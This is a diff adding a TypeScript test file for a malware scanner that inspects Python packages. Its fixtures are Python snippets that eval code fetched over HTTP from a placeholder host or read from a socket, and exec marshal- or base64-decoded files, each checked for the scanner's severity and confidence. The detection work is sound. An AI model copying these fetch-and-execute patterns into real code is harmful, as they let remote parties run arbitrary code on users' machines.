@@ -1,0 +1,33 @@
+/** Where honest programs do nearly the same, a rule is told to doubt: each doubt beside the text that leaves none. */
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { examine } from '../../src/engine/examine.ts';
+import { Budget } from '../../src/kit/budget.ts';
+import { forgeSdist } from '../forge/forge.ts';
+
+/** `severity confidence` of a rule's first finding about a package with one file; undefined where it finds nothing. */
+function found(rule: string, path: string, text: string): string | undefined {
+  const report = examine({ target: 'x', name: 'x-1.0.tar.gz', bytes: forgeSdist('x', '1.0', { [path]: text }) }, { budget: new Budget() });
+  const finding = report.findings.find((each) => each.rule === rule);
+  return finding && `${finding.severity} ${finding.confidence}`;
+}
+
+const ANSWERED = 'class Kernel:\n    def ask(self):\n        reply = self.session.recv(self.socket, mode=0)\n        return eval(reply["result"])\n';
+const FETCHED = 'import requests\ndef ask():\n    return eval(requests.get("https://files.example/x").text)\n';
+
+test('an answer without an address is doubted where somebody has to call for it', () => {
+  assert.equal(found('remote-code-evaluated', 'x/__init__.py', ANSWERED), 'critical medium');
+  assert.equal(found('remote-code-evaluated', 'x/__init__.py', FETCHED), 'critical high');
+  assert.equal(found('remote-code-evaluated', 'x/__init__.py', 'import socket\ns = socket.socket()\neval(s.recv(99))\n'), 'critical high');
+});
+
+test('a compiled file that a runner is given is doubted, decoded text is not', () => {
+  assert.equal(found('decoded-code-evaluated', 'x/__init__.py', 'import marshal\ndef run(path):\n    with open(path, "rb") as file:\n        file.read(16)\n        exec(marshal.load(file))\n'), 'high low');
+  assert.equal(found('decoded-code-evaluated', 'x/__init__.py', 'import base64\ndef run(path):\n    exec(base64.b64decode(open(path, "rb").read()))\n'), 'high high');
+});
+
+test('a text that stands there to be read is only noted, unless it reaches out', () => {
+  const text = 'def greet(name):\\n    print(name)\\n\\n\\ngreet("from a text that is evaluated")';
+  assert.equal(found('computed-code-evaluated', 'x/__init__.py', `exec('${text}')\n`), 'note medium');
+  assert.equal(found('computed-code-evaluated', 'x/__init__.py', `exec('import subprocess\\n${text}')\n`), 'medium medium');
+});
